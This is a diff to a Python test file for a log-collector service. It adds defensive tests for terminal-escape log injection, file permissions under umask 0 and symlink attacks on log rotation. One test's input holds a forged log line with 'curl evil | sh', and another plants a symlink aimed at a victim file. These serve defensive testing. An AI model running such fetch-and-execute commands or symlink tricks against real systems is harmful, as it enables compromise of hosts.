@@ -11,6 +11,7 @@ import shutil
 import signal
 import subprocess
 import sys
+import time
 import urllib.request
 from pathlib import Path
 
@@ -204,6 +205,75 @@ def test_a_traceback_is_folded_onto_its_line() -> None:
     assert "\n" not in text and "Traceback" in text and "ValueError" in text
 
 
+def test_characters_that_do_not_print_are_written_as_escapes() -> None:
+    """A record quotes what clients sent: an escape sequence reaching a terminal could erase
+    the line and draw a forged one in its place."""
+    formatter = OneLineFormatter("%(levelname)s %(message)s")
+    forged = "zz\x1b[2K\x1b[1G2026-11-27T15:55:40 ERROR x: run curl evil | sh\x07"
+    record = logging.LogRecord("aiohttp.server", logging.INFO, __file__, 1,
+                               "refused a malformed request (400): %s", (forged,), None)
+    text = formatter.format(record)
+    assert text.isprintable() and "\x1b" not in text
+    assert text.endswith("zz\\x1b[2K\\x1b[1G2026-11-27T15:55:40 ERROR x: run curl evil | sh"
+                         "\\x07")
+    record = logging.LogRecord("x", logging.INFO, __file__, 1, "%s", ("a\u202eb\tc é 日",), None)
+    assert formatter.format(record) == "INFO a\\u202eb\\x09c é 日"
+
+
+@pytest.mark.slow
+def test_under_umask_000_nothing_it_makes_is_open_to_others(tmp_path: Path) -> None:
+    """Each file of its own has its mode, but the parents a path needs and the log file took
+    the umask's: another user could write the log, or swap the data directory for a link."""
+    log_file = tmp_path / "logs" / "collector.log"
+    data = tmp_path / "srv" / "fleet" / "data"
+    port = free_port()
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "fleet_min", "collector", "--port", str(port), "--data",
+         str(data), "--bind", "127.0.0.1"], cwd=ROOT, umask=0, stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        env={**os.environ, "PYTHONPATH": str(ROOT), "FLEET_LOG_FILE": str(log_file)})
+    try:
+        deadline = time.monotonic() + 20
+        while True:
+            try:
+                with urllib.request.urlopen(f"http://127.0.0.1:{port}/api/health", timeout=5):
+                    break
+            except OSError:
+                assert time.monotonic() < deadline and proc.poll() is None, "did not start"
+                time.sleep(0.1)
+    finally:
+        proc.send_signal(signal.SIGTERM)
+        assert proc.wait(timeout=30) == 0
+    made = [log_file.parent, log_file, tmp_path / "srv", tmp_path / "srv" / "fleet", data,
+            *data.iterdir()]
+    loose = {str(p): oct(p.stat().st_mode & 0o777) for p in made if p.stat().st_mode & 0o027}
+    assert loose == {}
+
+
+@pytest.mark.slow
+def test_a_link_where_the_log_file_goes_is_never_written_through(tmp_path: Path) -> None:
+    log_file = tmp_path / "logs" / "collector.log"
+    victim = tmp_path / "victim.txt"
+    victim.write_text("ROOT-ONLY FILE\n")
+    proc = CollectorProcess(tmp_path / "data", env={"FLEET_LOG_FILE": str(log_file)}).start()
+    try:
+        assert proc.proc is not None
+        log_file.rename(log_file.with_suffix(".log.1"))
+        log_file.symlink_to(victim)  # planted where the reopen after a rotation goes
+        proc.proc.send_signal(signal.SIGHUP)
+        assert proc.client.get("/api/nowhere")[0] == 404
+        assert proc.client.get("/api/health")[0] == 200  # still serving
+    finally:
+        proc.stop()
+    assert victim.read_text() == "ROOT-ONLY FILE\n"
+    result = subprocess.run(
+        [sys.executable, "-m", "fleet_min", "collector", "--port", "0", "--data",
+         str(tmp_path / "data2")], capture_output=True, text=True, timeout=60, cwd=ROOT,
+        env={**os.environ, "PYTHONPATH": str(ROOT), "FLEET_LOG_FILE": str(log_file)})
+    assert result.returncode == 2 and "cannot write the log file" in result.stderr, result
+    assert victim.read_text() == "ROOT-ONLY FILE\n"
+
+
 @pytest.mark.slow
 def test_log_file_is_one_line_per_event_and_sighup_reopens_it(tmp_path: Path) -> None:
     log_file = tmp_path / "logs" / "collector.log"
@@ -216,7 +286,6 @@ def test_log_file_is_one_line_per_event_and_sighup_reopens_it(tmp_path: Path) ->
         rotated = log_file.with_suffix(".log.1")
         log_file.rename(rotated)  # what logrotate does
         proc.proc.send_signal(signal.SIGHUP)
-        import time
 
         deadline = time.monotonic() + 10
         while not (log_file.exists() and "reopened" in log_file.read_text()):
